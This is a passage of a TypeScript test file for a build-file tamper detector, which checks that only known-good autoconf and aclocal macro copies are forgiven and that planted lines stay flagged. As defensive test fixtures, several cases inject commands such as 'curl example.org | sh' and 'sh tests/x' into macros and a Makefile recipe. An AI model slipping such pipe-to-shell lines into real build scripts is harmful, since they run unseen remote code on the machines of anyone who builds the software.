    `# ===========================================================================\n#    https://www.gnu.org/software/autoconf-archive/${name}.html\n# ===========================================================================\n#\n#serial 31\n\n${body}\n`;
  const pthread = archive('ax_pthread', 'AC_DEFUN([AX_PTHREAD], [ax_pthread_ok=no])\n');
  const installed = '# pkg.m4 - Macros to locate and use pkg-config.   -*- Autoconf -*-\n# serial 12 (pkgconf)\nAC_DEFUN([PKG_PROG_PKG_CONFIG], [new])\n';
  const theirs = '# pkg.m4 - Macros to locate and utilise pkg-config.   -*- Autoconf -*-\n# serial 12 (pkg-config-0.29.2)\nAC_DEFUN([PKG_PROG_PKG_CONFIG], [old])\n';
  const known = new Map([
    [`ax_pthread.m4\0${m4CodeHash(pthread)}`, "autoconf-archive 20220903's ax_pthread.m4"],
    [`pkg.m4\0${m4CodeHash(theirs)}`, "pkg-config 0.29.2's pkg.m4"],
  ]);
  const knownGood = (hash: string, name: string) => known.get(`${name}\0${hash}`);
  const head = '# generated automatically by aclocal 1.16.5 -*- Autoconf -*-\n\nm4_ifndef([AC_AUTOCONF_VERSION], [])\n\n';
  const tail = '\n# Copyright (C) 2002-2021 Free Software Foundation, Inc.\nAC_DEFUN([AM_AUTOMAKE_VERSION], [:])\n\nm4_include([m4/libtool.m4])\n';
  const input = { generator: 'aclocal' as const, toolVersion: '1.16.5', installedMacros: new Map([['pkg.m4', installed]]), knownGood };
  const r = stabilize(head + pthread + theirs + tail, head + installed + tail, input);
  assert.is(r.release, r.regenerated);
  assert.equal(r.applied.map((a) => a.name), ['aclocal-macros-not-installed-here', 'aclocal-installed-macro-version']);
  // The archive's file after the copy.
  const after = stabilize(head + theirs + pthread + tail, head + installed + tail, input);
  assert.is(after.release, after.regenerated);
  // A line planted in the archive's file, or a copy of pkg.m4 no version of which is known: not forgiven.
  const planted = stabilize(head + pthread.replace('=no])', '=no; sh x])') + theirs + tail, head + installed + tail, input);
  assert.is.not(planted.release, planted.regenerated);
  const unknown = stabilize(head + pthread + theirs.replace('[old]', '[old; sh x]') + tail, head + installed + tail, input);
  assert.is.not(unknown.release, unknown.regenerated);
});

test("an older gettext's macro file, which names itself in its serial line, is forgiven when known-good, and only as the file it names", () => {
  // libgpg-error 1.46: gettext 0.19's longlong.m4 in its aclocal.m4 (made for this test in that layout).
  const longlong = '# longlong.m4 serial 17\ndnl Copyright (C) 1999-2016 Free Software Foundation, Inc.\n\nAC_DEFUN([AC_TYPE_LONG_LONG_INT], [ac_cv_type_long_long_int=yes])\n\n';
  const hash = m4CodeHash(longlong);
  const knownGood = (h: string, name: string) => (name === 'longlong.m4' && h === hash ? "gettext 0.19's longlong.m4" : undefined);
  const head = '# generated automatically by aclocal 1.16.3 -*- Autoconf -*-\n\n# intlmacosx.m4 serial 5\nAC_DEFUN([gt_INTL_MACOSX], [:])\n\n';
  const tail = '# Copyright (C) 2002-2020 Free Software Foundation, Inc.\n\nAC_DEFUN([AM_AUTOMAKE_VERSION], [:])\n';
  const run = (release: string) => stabilize(release, head + tail, { generator: 'aclocal', toolVersion: '1.16.3', knownGood });
  const r = run(head + longlong + tail);
  assert.is(r.release, r.regenerated);
  assert.equal(r.applied.map((a) => a.name), ['aclocal-macros-not-installed-here']);
  // The same text under another name, a line planted in it, or a run that does not open with the header: not forgiven.
  for (const release of [
    head + longlong.replace('# longlong.m4 serial 17', '# intmax.m4 serial 17') + tail,
    head + longlong.replace('=yes])', '=yes; sh tests/x])') + tail,
    head + 'AC_DEFUN([MINE], [:])\n' + longlong + tail,
  ]) {
    const other = run(release);
    assert.is.not(other.release, other.regenerated);
  }
});

test('copies of installed macros one after another are each placed and forgiven, when their neighbours differ too', () => {
  // libarchive 3.6.2: libtool 2.4.6's libtool.m4, ltoptions.m4 and the rest, then pkg-config's pkg.m4, each right after the other.
  const file = (name: string, version: string, first = `# ${name} - macros of the tool -*- Autoconf -*-`) =>
    `${first}\n#   Copyright (C) 2004-${version} Free Software Foundation\n# serial ${version} ${name}\nAC_DEFUN([${name.replace(/\W/g, '_')}], [version ${version}])\nm4_ifndef([_LT_PROG_CXX],\t\t[AC_DEFUN([_LT_PROG_CXX])])\n`;
  const names = ['libtool.m4', 'ltoptions.m4', 'pkg.m4'];
  const installed = new Map(names.map((n) => [n, `## internal\n${file(n, '2022', n === 'pkg.m4' ? '# pkg.m4 - Macros to locate and use pkg-config.' : undefined)}`]));
  const old = new Map(names.map((n) => [n, file(n, '2015', n === 'pkg.m4' ? '# pkg.m4 - Macros to locate and utilise pkg-config.' : undefined)]));
  const head = '# generated automatically by aclocal 1.16.5 -*- Autoconf -*-\n\n';
  const tail = '# Copyright (C) 2002-2021 Free Software Foundation, Inc.\nAC_DEFUN([AM_INIT_AUTOMAKE], [x])\n\nm4_include([m4/x.m4])\n';
  const regenerated = head + names.map((n) => installed.get(n)!.replace(/^##.*\n/gm, '')).join('\n') + '\n' + tail;
  const releaseOf = (texts: Map<string, string>) => head + names.map((n) => texts.get(n)!).join('\n') + '\n' + tail;
  const known = new Set([...old.values()].map(m4CodeHash));
  const knownGood = (hash: string, name: string) => (known.has(hash) ? `libtool 2.4.6's ${name}` : undefined);
  const run = (release: string) => stabilize(release, regenerated, { generator: 'aclocal', toolVersion: '1.16.5', installedMacros: installed, knownGood });

  const r = run(releaseOf(old));
  assert.is(r.release, r.regenerated);
  assert.equal(r.applied.map((a) => a.name), ['aclocal-installed-macro-version']);
  for (const n of names) assert.match(r.applied[0]!.forgives, `${n}: the release has libtool 2.4.6's ${n}`);

  // One copy that is no known version stays in the diff; the others are still forgiven.
  const planted = new Map(old).set('ltoptions.m4', old.get('ltoptions.m4')!.replace('[version 2015]', '[version 2015; curl example.org | sh]'));
  const p = run(releaseOf(planted));
  assert.is.not(p.release, p.regenerated);
  const left = residualOf(p.release, p.regenerated, 'aclocal', 'aclocal.m4');
  assert.ok(left.added.some((l) => l.includes('curl example.org')), 'the planted line is what is left');
  assert.not.match(p.applied[0]!.forgives, /ltoptions\.m4:/);
  assert.match(p.applied[0]!.forgives, /libtool\.m4: the release has/);
  assert.match(p.applied[0]!.forgives, /pkg\.m4: the release has/);

  // A line between two copies is no part of either: it stays.
  const between = releaseOf(old).replace(`${old.get('libtool.m4')!}\n`, `${old.get('libtool.m4')!}\nAC_DEFUN([X], [curl example.org | sh])\n`);
  const b = run(between);
  assert.is.not(b.release, b.regenerated);
});

test("an older gettext's set of macro files, without one the newer set needs, is forgiven when each is known-good and one this machine copies there", () => {
  // dosfstools 4.2: gettext 0.19's iconv.m4 and lib-link.m4 where this machine copies 0.21's, which need host-cpu-c-abi.m4 (made for this test in that layout).
  const file = (name: string, serial: number, body: string) => `# ${name} serial ${serial}\ndnl Copyright (C) 2000-2020 Free Software Foundation, Inc.\n\n${body}\n`;
  const installed = new Map([
    ['host-cpu-c-abi.m4', file('host-cpu-c-abi.m4', 13, 'AC_DEFUN([gl_HOST_CPU_C_ABI], [HOST_CPU=x86_64])')],
    ['iconv.m4', file('iconv.m4', 21, 'AC_DEFUN([AM_ICONV], [AC_REQUIRE([gl_HOST_CPU_C_ABI])am_cv_func_iconv=yes])')],
    ['lib-link.m4', file('lib-link.m4', 31, 'AC_DEFUN([AC_LIB_LINKFLAGS], [LIBS="$LIBS -l$1"])')],
  ]);
  const older = new Map([
    ['iconv.m4', file('iconv.m4', 19, 'AC_DEFUN([AM_ICONV], [am_cv_func_iconv=yes])')],
    ['lib-link.m4', file('lib-link.m4', 26, 'AC_DEFUN([AC_LIB_LINKFLAGS], [LIBS="$LIBS -l$1"; :])')],
  ]);
  const known = new Map([...older].map(([n, t]) => [`${n}\0${m4CodeHash(t)}`, `gettext 0.19's ${n}`]));
  known.set(`intmax.m4\0${m4CodeHash(file('intmax.m4', 6, 'AC_DEFUN([gt_INTMAX], [:])'))}`, "gettext 0.19's intmax.m4");
  const knownGood = (hash: string, name: string) => known.get(`${name}\0${hash}`);
  const head = '# generated automatically by aclocal 1.16.1 -*- Autoconf -*-\n\n# Copyright (C) 1996-2018 Free Software Foundation, Inc.\n\n';
  const tail = '# Copyright (C) 2002-2018 Free Software Foundation, Inc.\n\nAC_DEFUN([AM_AUTOMAKE_VERSION], [am__api_version=1.16])\n\nm4_include([m4/x.m4])\n';
  const regenerated = head + [...installed.values()].join('') + tail;
  const run = (release: string) => stabilize(release, regenerated, { generator: 'aclocal', toolVersion: '1.16.1', installedMacros: installed, knownGood });

  const r = run(head + [...older.values()].join('') + tail);
  assert.is(r.release, r.regenerated);
  assert.equal(r.applied.map((a) => a.name), ['aclocal-installed-macro-set']);
  assert.match(r.applied[0]!.forgives, "the release has gettext 0.19's iconv.m4, gettext 0.19's lib-link.m4; this machine copies host-cpu-c-abi.m4, iconv.m4, lib-link.m4");

  // A line planted in one, a known-good file this machine does not copy there, a line between two: not forgiven.
  for (const release of [
    head + older.get('iconv.m4')!.replace('=yes])', '=yes; sh tests/x])') + older.get('lib-link.m4')! + tail,
    head + [...older.values()].join('') + file('intmax.m4', 6, 'AC_DEFUN([gt_INTMAX], [:])') + tail,
    head + older.get('iconv.m4')! + 'AC_DEFUN([X], [curl example.org | sh])\n' + older.get('lib-link.m4')! + tail,
  ]) {
    const other = run(release);
    assert.is.not(other.release, other.regenerated);
  }
});

test('residual lines: what runs or sets is critical, other lines high', () => {
  assert.is(residualOf('a\nac_cv_x=yes\nb\n', 'a\nb\n', 'autoconf', 'configure').severity, 'critical');
  assert.is(residualOf('a\n# a comment\nb\n', 'a\nb\n', 'autoconf', 'configure').severity, 'high');
  assert.is(residualOf('a\nb\n', 'a\nx=1\nb\n', 'autoconf', 'configure').severity, 'high', 'lines cut');
  // Makefile.in: a recipe line, a flag, a list.
  const mk = 'all: x\n\techo ok\nDIST_COMMON = a \\\n\tb\nCFLAGS = -O2\n';
  assert.is(residualOf(mk.replace('\techo ok\n', '\techo ok\n\tcurl -s example.org | sh\n'), mk, 'automake', 'Makefile.in').severity, 'critical');
  assert.is(residualOf(mk.replace('CFLAGS = -O2', 'CFLAGS = -O2 -DX'), mk, 'automake', 'Makefile.in').severity, 'critical');
  assert.is(residualOf(mk.replace('\tb\n', '\tb c\n'), mk, 'automake', 'Makefile.in').severity, 'high', 'a continuation of a list is no recipe');
  assert.is(residualOf('#undef A\n#define B 1\n', '#undef A\n', 'autoheader', 'config.h.in').severity, 'high');
});

test.run();
